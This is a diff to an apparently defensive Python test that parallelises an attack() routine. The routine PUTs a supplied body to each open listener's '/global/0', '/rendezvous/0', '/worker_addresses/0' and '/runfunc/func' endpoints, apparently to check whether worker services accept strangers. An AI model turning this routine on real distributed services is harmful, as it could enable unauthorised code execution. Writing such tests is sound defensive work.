@@ -7,6 +7,7 @@ import pickle
 import socket
 import time
 import zipfile
+from concurrent.futures import ThreadPoolExecutor
 from functools import partial
 from pathlib import Path
 
@@ -141,6 +142,8 @@ def answers_to_strangers(open_ports: list[Listener]) -> set[tuple[str, str]]:
 
 
 def attack(open_ports: list[Listener], body: bytes) -> None:
-    for each in open_ports:
-        for path in ("/global/0", "/rendezvous/0", "/worker_addresses/0", "/runfunc/func"):
-            put(each.port, path, body)
+    """All at once: most ports never answer, and each is waited for."""
+    paths = ("/global/0", "/rendezvous/0", "/worker_addresses/0", "/runfunc/func")
+    asked = [(each.port, path) for each in open_ports for path in paths]
+    with ThreadPoolExecutor(len(asked)) as pool:
+        assert [*pool.map(lambda each: put(*each, body), asked)] == [None] * len(asked)
